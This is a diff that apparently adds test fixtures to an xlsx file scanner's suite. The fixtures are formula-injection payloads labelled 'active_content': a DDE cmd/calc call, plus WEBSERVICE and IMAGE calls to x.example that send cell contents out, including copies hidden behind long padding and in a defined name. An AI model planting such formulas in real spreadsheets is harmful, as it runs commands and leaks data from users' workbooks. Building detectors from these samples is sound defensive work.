@@ -198,6 +198,42 @@ FILES: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
         "active_content",
         "D6",
     ),
+    "F09 a program in quotes": (
+        lambda: _cell_d6(b"<c r=\"D6\"><f>'cmd'|'/C calc'!A0</f><v>2650</v></c>"),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
+    "F09 behind the quote in a sheet's name": (
+        lambda: _cell_d6(
+            b'<c r="D6"><f>\'"\'!A1&amp;WEBSERVICE(&quot;https://x.example&quot;)</f><v>2650</v></c>'
+        ),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
+    "F09 a picture from the web": (
+        lambda: _cell_d6(b'<c r="D6"><f>_xlfn.IMAGE("https://x.example/"&amp;A1)</f><v>2650</v></c>'),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
+    "F09 behind what anybody reads": (
+        lambda: _cell_d6(b'<c r="D6"><f>' + b"1+" * 4100 + b'WEBSERVICE("x")</f><v>2650</v></c>'),
+        "a.xlsx",
+        "active_content",
+        "D6",
+    ),
+    "F09 behind a name": (
+        lambda: _edited(
+            "xl/workbook.xml",
+            b"<definedNames>",
+            b'<definedNames><definedName name="x">WEBSERVICE("https://x.example")</definedName>',
+        ),
+        "a.xlsx",
+        "active_content",
+        "",
+    ),
     "F10 a gigabyte": (_unpacks_to_a_gigabyte, "a.xlsx", "zip_bomb", ""),
     "F10 forged size": (_forged_size, "a.xlsx", "corrupt", ""),
     "F10 overlapping": (_overlapping, "a.xlsx", "zip_bomb", ""),
